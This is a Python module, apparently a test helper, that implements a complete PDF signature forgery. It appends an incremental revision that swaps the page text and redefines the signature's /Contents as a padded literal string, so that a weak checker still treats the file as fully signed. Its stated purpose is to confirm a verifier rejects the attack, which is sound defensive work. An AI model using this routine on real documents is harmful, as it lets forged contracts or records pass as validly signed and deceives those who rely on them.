"""A known attack on PDF signature checks, to prove ours refuses it.

The forger keeps a signed file byte for byte and appends a revision that
replaces the page's text and redefines the signature object with the same
/ByteRange but its /Contents as a literal string, padded so that the file's
length equals what a checker computes for a wholly covered file
(len1 + len2 + 2 × len(/Contents) + 2). The digest still matches.
"""

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader


def _literal(value: bytes) -> bytes:
    escaped = value.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
    return b"(" + escaped + b")"


def forge_by_redefined_contents(signed: bytes, new_text: str) -> bytes:
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    signature = reader.embedded_signatures[0]
    signature_number = signature.sig_field.raw_get("/V").idnum
    cms = bytes(signature.pkcs7_content).rstrip(b"\x00")
    _start1, length1, start2, length2 = (int(x) for x in signature.byte_range)
    contents_ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(contents_ref, generic.ArrayObject):
        contents_ref = contents_ref[0]
    previous_xref = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    size = int(reader.trailer["/Size"])
    root_number = reader.trailer.raw_get("/Root").idnum
    entries = []
    for key in signature.sig_object:
        if key == "/Contents":
            continue
        out = io.BytesIO()
        signature.sig_object.raw_get(key).write_to_stream(out)
        entries.append(key.encode() + b" " + out.getvalue())
    stream = b"BT /F1 24 Tf 100 700 Td (" + new_text.encode("latin-1") + b") Tj ET"

    def build(placeholder, pad):
        contents = cms + b"\x00" * (placeholder - len(cms))
        body = b"\n%" + b"x" * pad + b"\n"
        offsets = {contents_ref.idnum: len(signed) + len(body)}
        body += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (contents_ref.idnum, len(stream)) + stream + b"\nendstream\nendobj\n"
        offsets[signature_number] = len(signed) + len(body)
        body += b"%d 0 obj\n<< " % signature_number + b" ".join(entries) + b" /Contents " + _literal(contents) + b" >>\nendobj\n"
        xref_at = len(signed) + len(body)
        body += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets))
        body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            root_number,
            previous_xref,
            xref_at,
        )
        return signed + body

    placeholder = start2 - length1 + 4000
    while True:
        out = build(placeholder, 0)
        need = length1 + length2 + 2 * placeholder + 2 - len(out)
        if need >= 0:
            out = build(placeholder, need)
            if len(out) == length1 + length2 + 2 * placeholder + 2:
                return out
        placeholder += 1
